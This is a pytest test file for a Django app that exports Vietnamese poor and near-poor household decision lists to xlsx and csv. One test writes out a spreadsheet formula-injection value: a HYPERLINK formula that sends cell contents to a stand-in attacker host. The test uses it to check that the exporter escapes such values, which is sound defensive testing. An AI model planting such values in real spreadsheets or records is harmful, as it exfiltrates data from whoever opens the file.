"""The official lists of a decision (Mẫu 02) in the exchange format: which households
each list holds, scoping, title rows and signature block, reading back through the
reader and the importer, formula escaping, sheets past the row limit, the page,
the round's download and the command."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.models import User
from exchange import exporter
from exchange.exporter import ListScope
from exchange.importer import plan_import
from exchange.reader import read_tables
from households.models import Household
from reviews import selectors, services
from reviews.models import HouseholdStatus, ReviewRound

from .review_world import POOR_FLAGS, decided_year, flags
from .world import make_household, recognise

YEAR = 2026
TODAY = timezone.localdate()
SHEETS = ["DS hộ nghèo", "DS hộ cận nghèo", "DS hộ thoát nghèo", "DS hộ thoát cận nghèo"]
KEYS = ["poor", "near_poor", "escaped_poor", "escaped_near_poor"]
HEADERS = ["STT", "Mã xã", "Mã hộ", "Thôn", "Họ tên chủ hộ", "Khu vực", "Phân loại", "Năm phân loại",
           "Số nhân khẩu", "Hộ dân tộc thiểu số", "Biến động"]
EXTRA_HEADERS = ["Số nhân khẩu", "Hộ dân tộc thiểu số", "Biến động"]


# -- a decided round with every kind of movement ----------------------------------------------

def decide(world, round_, *, number="9/QĐ-UBND", signer="Hầu A Lềnh") -> ReviewRound:
    services.record_meeting(actor=world.officer, round_=round_, village=world.village,
                            held_on=TODAY - timedelta(days=9), attendance=20, chaired_by="Vàng Seo Sử",
                            votes={s.pk: 15 for s in round_.surveys.all()})
    services.record_posting(actor=world.officer, round_=round_, start=TODAY - timedelta(days=8), days=3)
    services.submit_round(actor=world.officer, round_=round_)
    services.approve_round(actor=world.reviewer, round_=round_)
    return services.record_decision(actor=world.officer, round_=round_, number=number, decided_on=TODAY,
                                    signer=signer)


@pytest.fixture
def decided(world):
    """Tả Thàng's periodic round of YEAR, decided. Household codes and what the decision made of them:

    0001 poor → poor (unchanged)            0002 poor → near-poor (escaped poverty)
    0003 poor → none (escaped, above)       0004 near-poor → none (escaped near-poverty)
    0005 near-poor → poor                   0006 none, not on the list (unchanged)
    """
    w = world

    def household(code, head, classification):
        return make_household(w.officer, w.tathang, w.village, head, code=code, classification=classification,
                              classification_year=None if classification == "none" else 2025)

    made = {"0001": w.household,
            "0002": household("0002", "Lý Seo Dình", "poor"),
            "0003": household("0003", "Thào A Lử", "poor"),
            "0004": household("0004", "Ma Văn Tủa", "near_poor"),
            "0005": household("0005", "Hầu A Dế", "near_poor"),
            "0006": household("0006", "Sùng A Chinh", "none")}
    facts = {"0001": (1_000_000, POOR_FLAGS), "0002": (1_000_000, ("latrine",)),
             "0003": (3_000_000, ("latrine",)), "0004": (3_000_000, ()), "0005": (1_000_000, POOR_FLAGS)}
    round_ = services.open_round(actor=w.officer, commune=w.tathang, year=YEAR)
    for survey in round_.surveys.select_related("household"):
        income, deprived = facts[survey.household.code]
        services.record_survey(actor=w.officer, survey=survey, income=income,
                               deprivations=flags(round_.standard, *deprived))
    w.round = decide(w, round_)
    w.made = made
    return w


def decide_yty(world) -> ReviewRound:
    """Y Tý's round of YEAR (other district, same province) decided, its household poor."""
    recognise(world.household_yty, "poor", 2025)
    round_ = decided_year(world.superuser, world.superuser, world.household_yty, YEAR)
    round_.refresh_from_db()
    return round_


EXPECTED = {
    "poor": [("0001", "Không thay đổi"), ("0005", "Từ hộ cận nghèo thành hộ nghèo")],
    "near_poor": [("0002", "Thoát nghèo, trở thành hộ cận nghèo")],
    "escaped_poor": [("0002", "Thoát nghèo, trở thành hộ cận nghèo"), ("0003", "Thoát nghèo, vượt chuẩn cận nghèo")],
    "escaped_near_poor": [("0004", "Thoát cận nghèo")],
}


# -- reading the files -------------------------------------------------------------------------

def workbook(user, scope, **options):
    out = io.BytesIO()
    counts = exporter.export_lists(user, scope, "xlsx", out, **options)
    return counts, out.getvalue()


def sheet_rows(sheet) -> list[list]:
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]


def table_of(rows: list[list]) -> list[list]:
    """The data rows under the header ("STT" in the first column), up to the first blank row."""
    start = next(i for i, row in enumerate(rows) if row and row[0] == "STT")
    assert rows[start] == HEADERS
    data = []
    for row in rows[start + 1:]:
        if not any(str(cell).strip() for cell in row):
            break
        data.append(row)
    return data


def xlsx_lists(user, scope) -> dict[str, list[list]]:
    _counts, data = workbook(user, scope)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == SHEETS
    return {key: table_of(sheet_rows(book[name])) for key, name in zip(KEYS, SHEETS, strict=True)}


def zip_files(user, scope) -> dict[str, bytes]:
    out = io.BytesIO()
    exporter.export_lists(user, scope, "csv", out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def csv_lists(user, scope) -> dict[str, list[list]]:
    files = zip_files(user, scope)
    assert list(files) == [f"ds-ho-ngheo-{scope.year}.csv", f"ds-ho-can-ngheo-{scope.year}.csv",
                           f"ds-ho-thoat-ngheo-{scope.year}.csv", f"ds-ho-thoat-can-ngheo-{scope.year}.csv"]
    result = {}
    for key, data in zip(KEYS, files.values(), strict=True):
        assert data.startswith(b"\xef\xbb\xbf")
        result[key] = table_of(list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))))
    return result


def codes(lists) -> dict[str, list[str]]:
    return {key: [row[2] for row in rows] for key, rows in lists.items()}


# -- which households ---------------------------------------------------------------------------

@pytest.mark.parametrize("read", [xlsx_lists, csv_lists], ids=["xlsx", "csv"])
def test_the_four_lists_hold_exactly_the_decisions_households(decided, read):
    lists = read(decided.officer, ListScope(year=YEAR, round_id=decided.round.pk))
    assert {key: [(row[2], row[10]) for row in rows] for key, rows in lists.items()} == EXPECTED
    # The same households as the printed decision.
    printed = selectors.decision_lists(decided.round)
    assert codes(lists) == {key: [s.household.code for s in printed[key]] for key in KEYS}
    # STT, then the exchange columns and the three the printed lists add.
    year = YEAR if read is xlsx_lists else str(YEAR)
    one = 1 if read is xlsx_lists else "1"
    members = 2 if read is xlsx_lists else "2"
    assert lists["poor"][0] == [one, "02794", "0001", "Thôn Tả Thàng", "Giàng A Páo", "Nông thôn", "Hộ nghèo",
                                year, members, "Có", "Không thay đổi"]
    assert [row[0] for row in lists["escaped_poor"]] == ([1, 2] if read is xlsx_lists else ["1", "2"])
    assert [row[6] for row in lists["escaped_poor"]] == ["Hộ cận nghèo", "Không"]


def test_a_year_takes_each_households_last_decision_of_that_year(decided):
    """A later decision of the same year (a regular review) moves 0003 back to poor."""
    w = decided
    regular = ReviewRound.objects.create(
        commune=w.tathang, year=YEAR, kind=ReviewRound.Kind.REGULAR, month=12, standard=w.round.standard,
        status=ReviewRound.Status.DECIDED, decision_number="15/QĐ-UBND", decision_date=TODAY,
        decision_signer="Hầu A Lềnh")
    HouseholdStatus.objects.create(household=w.made["0003"], year=YEAR, category="poor", previous_category="none",
                                   movement="re_poor", round=regular, standard_code=w.round.standard.code,
                                   decided_on=TODAY)
    by_year = codes(xlsx_lists(w.officer, ListScope(year=YEAR)))
    _counts, data = workbook(w.officer, ListScope(year=YEAR))
    title = sheet_rows(load_workbook(io.BytesIO(data))["DS hộ nghèo"])[4][0]
    assert title == (f"(Kèm theo các Quyết định số 9/QĐ-UBND ngày {TODAY:%d/%m/%Y}; số 15/QĐ-UBND ngày "
                     f"{TODAY:%d/%m/%Y} của Chủ tịch UBND xã Tả Thàng)")
    assert by_year == {"poor": ["0001", "0003", "0005"], "near_poor": ["0002"], "escaped_poor": ["0002"],
                       "escaped_near_poor": ["0004"]}
    # The periodic round's own lists are still its decision's.
    assert codes(xlsx_lists(w.officer, ListScope(year=YEAR, round_id=w.round.pk)))["escaped_poor"] == ["0002", "0003"]
    # A year without a decision has empty lists (the world's households were recognised in YEAR - 1).
    assert codes(xlsx_lists(w.officer, ListScope(year=YEAR - 2))) == {key: [] for key in KEYS}


def test_title_rows_and_signature_block(decided):
    counts, data = workbook(decided.officer, ListScope(year=YEAR, round_id=decided.round.pk))
    assert counts == {"poor": 2, "near_poor": 1, "escaped_poor": 2, "escaped_near_poor": 1}
    book = load_workbook(io.BytesIO(data))
    rows = sheet_rows(book["DS hộ thoát nghèo"])
    text = [" | ".join(str(cell) for cell in row if cell != "") for row in rows]
    assert text[0] == "UBND XÃ TẢ THÀNG | CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
    assert text[1] == "Độc lập – Tự do – Hạnh phúc"
    assert text[3] == f"DANH SÁCH HỘ THOÁT NGHÈO NĂM {YEAR}"
    assert text[4] == (f"(Kèm theo Quyết định số 9/QĐ-UBND ngày {TODAY:%d/%m/%Y} "
                       "của Chủ tịch UBND xã Tả Thàng)")
    footer = text[text.index("Tổng số: 2 hộ"):]
    assert footer[1] == f"Xã Tả Thàng, ngày {TODAY:%d} tháng {TODAY:%m} năm {TODAY:%Y}"
    assert footer[2] == "Người lập biểu | TM. ỦY BAN NHÂN DÂN"
    assert footer[3] == "(Ký, ghi rõ họ tên) | CHỦ TỊCH"
    assert footer[-1] == "Hầu A Lềnh"
    sheet = book["DS hộ nghèo"]
    header_row = next(row for row in sheet.iter_rows(min_row=1, max_row=10) if row[0].value == "STT")
    assert all(cell.font.bold for cell in header_row)
    first = sheet.cell(header_row[0].row + 1, 2)
    assert (first.value, first.data_type, first.number_format) == ("02794", "s", "@")  # codes stay text


def test_lists_of_a_year_across_communes_say_so(decided):
    yty_round = decide_yty(decided)
    assert yty_round.status == ReviewRound.Status.DECIDED
    _counts, data = workbook(decided.province_admin, ListScope(year=YEAR))
    rows = sheet_rows(load_workbook(io.BytesIO(data))["DS hộ nghèo"])
    assert rows[0][0] == "UBND TỈNH LÀO CAI"
    assert rows[4][0] == "(Tổng hợp theo quyết định công nhận của Chủ tịch UBND 2 xã, phường, thị trấn)"


# -- scoping -------------------------------------------------------------------------------------

def test_each_user_gets_only_the_statuses_of_their_area(decided):
    w = decided
    decide_yty(w)
    tathang = codes(xlsx_lists(w.officer, ListScope(year=YEAR)))
    assert tathang == {key: [code for code, _m in EXPECTED[key]] for key in KEYS}
    assert codes(xlsx_lists(w.reviewer, ListScope(year=YEAR))) == tathang  # Mường Khương: Tả Thàng only
    province = xlsx_lists(w.province_admin, ListScope(year=YEAR))
    assert [(row[1], row[2]) for row in province["poor"]] == [("02701", "0001"), ("02794", "0001"),
                                                              ("02794", "0005")]
    yty = xlsx_lists(w.officer2, ListScope(year=YEAR))
    assert [(row[1], row[2]) for row in yty["poor"]] == [("02701", "0001")]
    # Tả Thàng's round asked by Y Tý's officer or the 2025 reviewer: nothing of it.
    assert codes(xlsx_lists(w.officer2, ListScope(year=YEAR, round_id=w.round.pk))) == {key: [] for key in KEYS}
    assert codes(xlsx_lists(w.reviewer2025, ListScope(year=YEAR))) == {key: [] for key in KEYS}
    # One commune of the area.
    one = codes(xlsx_lists(w.province_admin, ListScope(year=YEAR, commune_code="02701")))
    assert one == {"poor": ["0001"], "near_poor": [], "escaped_poor": [], "escaped_near_poor": []}


def test_outside_the_area_the_round_download_is_not_found(decided, client):
    url = reverse("exchange:round_lists", args=[decided.round.pk])
    for user in (decided.officer2, decided.reviewer2025):
        client.force_login(user)
        assert client.get(url).status_code == 404
    client.force_login(decided.reviewer)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="danh-sach-{YEAR}-02794.xlsx"'
    assert load_workbook(io.BytesIO(b"".join(response.streaming_content))).sheetnames == SHEETS


def test_a_round_without_a_decision_has_no_lists(world, client):
    round_ = services.open_round(actor=world.officer, commune=world.tathang, year=YEAR)
    client.force_login(world.officer)
    assert client.get(reverse("exchange:round_lists", args=[round_.pk])).status_code == 404


def test_a_user_without_an_area_gets_four_empty_lists(decided):
    nobody = User.objects.create_user("nobody", password="x-123-long-enough")
    assert codes(xlsx_lists(nobody, ListScope(year=YEAR))) == {key: [] for key in KEYS}


# -- reading back ------------------------------------------------------------------------------------

def test_the_workbook_reads_back_as_households_and_imports_cleanly(decided):
    _counts, data = workbook(decided.officer, ListScope(year=YEAR, round_id=decided.round.pk))
    tables = read_tables(data, "danh-sach.xlsx")
    assert [(t.name, t.kind) for t in tables] == [(name, "households") for name in SHEETS]
    checked = 0
    for key, table in zip(KEYS, tables, strict=True):
        assert table.missing_required == [] and table.unknown_columns == EXTRA_HEADERS
        rows = list(table.rows())
        assert [(r.values["ma_xa"], r.values["ma_ho"]) for r in rows] == [("02794", c) for c, _m in EXPECTED[key]]
        # The register follows the decision: a list imported back is accepted whole and
        # changes nothing, for the households the decision left unclassified too.
        plan = plan_import([table], decided.officer)
        assert plan.issues == [] and plan.counts()["created"] == plan.counts()["rejected"] == 0
        actions = {code: hh.action for (_commune, code), hh in plan.households.items()}
        assert set(actions.values()) <= {"unchanged"}
        checked += len(actions)
    assert checked == sum(len(rows) for rows in EXPECTED.values())


def test_the_csv_files_read_back_as_households(decided):
    files = zip_files(decided.officer, ListScope(year=YEAR, round_id=decided.round.pk))
    for key, (name, data) in zip(KEYS, files.items(), strict=True):
        [table] = read_tables(data, name)
        assert table.kind == "households" and table.unknown_columns == EXTRA_HEADERS
        assert [r.values["ma_ho"] for r in table.rows()] == [c for c, _m in EXPECTED[key]]


# -- formula escaping ------------------------------------------------------------------------------

DANGEROUS_HEAD = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'


def test_text_a_spreadsheet_would_run_is_escaped(decided):
    w = decided
    Household.objects.filter(pk=w.household.pk).update(head_name=DANGEROUS_HEAD)
    w.village.__class__.objects.filter(pk=w.village.pk).update(name="-Thôn Tả Thàng")
    ReviewRound.objects.filter(pk=w.round.pk).update(decision_signer="@Hầu A Lềnh", decision_number="+9/QĐ")
    scope = ListScope(year=YEAR, round_id=w.round.pk)
    for lists in (xlsx_lists(w.officer, scope), csv_lists(w.officer, scope)):
        row = lists["poor"][0]
        assert (row[3], row[4]) == ("'-Thôn Tả Thàng", "'" + DANGEROUS_HEAD)
    _counts, data = workbook(w.officer, scope)
    sheet = load_workbook(io.BytesIO(data))["DS hộ nghèo"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert "'@Hầu A Lềnh" in values and "@Hầu A Lềnh" not in values
    assert any("số +9/QĐ ngày" in str(value) for value in values)  # inside the text: harmless
    # The importer takes the apostrophe off again: the village is the same village.
    [table, *_rest] = read_tables(data, "danh-sach.xlsx")
    assert [r.values["chu_ho"] for r in table.rows()][0] == "'" + DANGEROUS_HEAD  # as written
    plan = plan_import([table], w.officer)
    same = plan.households[(w.tathang.pk, "0005")]
    assert (same.village_name, same.action) == ("-Thôn Tả Thàng", "unchanged")


# -- many rows ---------------------------------------------------------------------------------------

def many_poor(world, round_, count: int) -> None:
    """`count` more poor households on the round's decision, written straight to the database."""
    households = Household.objects.bulk_create(
        Household(commune=world.tathang, village=world.village, code=f"P{i:04d}", head_name=f"Chủ hộ {i}",
                  area=Household.Area.RURAL, classification="poor", classification_year=YEAR, member_count=1)
        for i in range(count))
    HouseholdStatus.objects.bulk_create(
        HouseholdStatus(household=h, year=YEAR, category="poor", previous_category="poor", movement="unchanged",
                        round=round_, standard_code=round_.standard.code, decided_on=TODAY)
        for h in households)


def test_rows_past_the_sheet_limit_continue_on_new_sheets_and_read_back(decided):
    many_poor(decided, decided.round, 14)  # 16 poor households
    scope = ListScope(year=YEAR, round_id=decided.round.pk)
    counts, data = workbook(decided.officer, scope, sheet_row_limit=12)
    assert counts["poor"] == 16
    book = load_workbook(io.BytesIO(data))
    poor_sheets = [name for name in book.sheetnames if name.startswith("DS hộ nghèo")]
    # 5 rows under the title, then 11 a sheet, then the signature block on a sheet of its own.
    assert poor_sheets == ["DS hộ nghèo", "DS hộ nghèo (2)", "DS hộ nghèo (3)"]
    assert all(book[name].max_row <= 12 for name in book.sheetnames)
    numbered, found = [], []
    for name in poor_sheets:
        rows = sheet_rows(book[name])
        data_rows = table_of(rows) if any(row and row[0] == "STT" for row in rows) else []
        numbered += [row[0] for row in data_rows]
        found += [row[2] for row in data_rows]
    assert numbered == list(range(1, 17))
    assert sorted(found) == sorted(["0001", "0005", *(f"P{i:04d}" for i in range(14))])
    last = [" ".join(str(cell) for cell in row if cell != "") for row in sheet_rows(book["DS hộ nghèo (3)"])]
    assert last[0] == " ".join(HEADERS) and last[2] == "Tổng số: 16 hộ"
    read = [r.values["ma_ho"] for t in read_tables(data, "x.xlsx") if t.name.startswith("DS hộ nghèo")
            for r in t.rows()]
    assert read == found
    with pytest.raises(exporter.ExportError):
        workbook(decided.officer, scope, sheet_row_limit=8)


def test_queries_do_not_grow_with_the_rows(decided):
    scope = ListScope(year=YEAR)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            exporter.export_lists(decided.officer, scope, "xlsx", io.BytesIO())
            exporter.export_lists(decided.officer, scope, "csv", io.BytesIO())
        return len(captured)

    few = queries()
    many_poor(decided, decided.round, 50)
    assert queries() == few <= 2 * (4 + 3)  # per file: the heading, then one query a list


# -- the page and the command ------------------------------------------------------------------------

def test_export_page_downloads_the_lists_of_a_year(decided, client):
    client.force_login(decided.reviewer)
    page = client.get(reverse("exchange:export"))
    assert page.status_code == 200 and page.context["form"]["year"].value() == YEAR  # the last decided year
    response = client.get(reverse("exchange:export"), {"kind": "lists", "year": YEAR, "format": "csv",
                                                       "commune": "2794"})
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == f'attachment; filename="danh-sach-{YEAR}-02794.zip"'
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        assert len(archive.namelist()) == 4
        assert "Lý Seo Dình" in archive.read(f"ds-ho-can-ngheo-{YEAR}.csv").decode("utf-8-sig")


@pytest.mark.parametrize(("params", "field"), [
    ({"kind": "lists", "format": "xlsx"}, "year"),
    ({"kind": "lists", "format": "xlsx", "year": YEAR, "commune": "02701"}, "commune"),  # Y Tý: other district
    ({"kind": "lists", "format": "xlsx", "year": YEAR, "commune": "xã"}, "commune"),
])
def test_export_page_refuses_a_missing_year_or_a_commune_outside(decided, client, params, field):
    client.force_login(decided.reviewer)
    response = client.get(reverse("exchange:export"), params)
    assert response.status_code == 200 and not getattr(response, "streaming", False)
    assert list(response.context["form"].errors) == [field]


def test_the_round_and_its_printed_decision_offer_the_lists(decided, client):
    client.force_login(decided.officer)
    url = reverse("exchange:round_lists", args=[decided.round.pk])
    assert url in client.get(decided.round.get_absolute_url()).content.decode()
    printed = client.get(reverse("reviews:decision_print", args=[decided.round.pk])).content.decode()
    assert url in printed and f"{url}?format=csv" in printed
    response = client.get(url, {"format": "csv"})
    assert response["Content-Disposition"] == f'attachment; filename="danh-sach-{YEAR}-02794.zip"'
    assert client.get(url, {"format": "ods"}).status_code == 404


def test_command_writes_the_lists(decided, tmp_path):
    out = io.StringIO()
    target = tmp_path / "danh sach.xlsx"
    call_command("export_file", user="reviewer", kind="lists", year=YEAR, out=str(target), stdout=out)
    assert "1 escaped near-poverty" in out.getvalue() and "2 poor" in out.getvalue()
    assert load_workbook(target).sheetnames == SHEETS
    archive = tmp_path / "ds.zip"
    call_command("export_file", "--user", "reviewer", "--kind", "lists", "--year", str(YEAR), "--commune", "02794",
                 "--out", str(archive), stdout=io.StringIO())
    with zipfile.ZipFile(archive) as files:
        assert len(files.namelist()) == 4
    assert not list(tmp_path.glob("*.part"))


@pytest.mark.parametrize(("options", "message"), [
    ({"kind": "lists", "out": "x.xlsx"}, "--year"),
    ({"kind": "lists", "year": YEAR, "out": "x.csv"}, "zip"),
    ({"kind": "lists", "year": YEAR, "commune": "02701", "out": "x.xlsx"}, "in your area"),
    ({"kind": "households", "year": YEAR, "out": "x.xlsx"}, "lists only"),
])
def test_command_refuses_bad_arguments(decided, tmp_path, options, message):
    options = {**options, "out": str(tmp_path / options["out"])}
    with pytest.raises(CommandError, match=message):
        call_command("export_file", user="reviewer", stdout=io.StringIO(), **options)
    assert not list(tmp_path.iterdir())
